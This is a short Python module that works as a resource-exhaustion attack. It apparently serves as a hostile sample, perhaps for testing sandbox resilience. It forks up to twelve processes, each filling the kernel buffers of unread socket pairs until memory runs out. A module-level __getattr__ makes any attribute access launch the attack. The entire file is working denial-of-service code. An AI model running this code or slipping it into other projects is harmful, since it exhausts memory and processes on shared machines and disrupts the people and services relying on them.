"""Holds memory in the buffers of sockets that nobody reads, in as many processes as it may start."""

import contextlib
import os
import socket
import time

TAKEN = []


def fill():
    held = 0
    with contextlib.suppress(OSError):
        while True:
            TAKEN.append(socket.socketpair())
            for end in TAKEN[-1]:
                with contextlib.suppress(OSError):
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        held += end.send(bytes(2**16))
    return held


def attack(*arguments, **keywords):
    with contextlib.suppress(OSError):
        for _ in range(12):
            if os.fork() == 0:
                fill()
                time.sleep(3600)
    held = fill()
    # Until somebody sees it.
    time.sleep(1.5)
    raise RuntimeError(f"held {held >> 20} MiB in each process")


def __getattr__(name):
    return attack
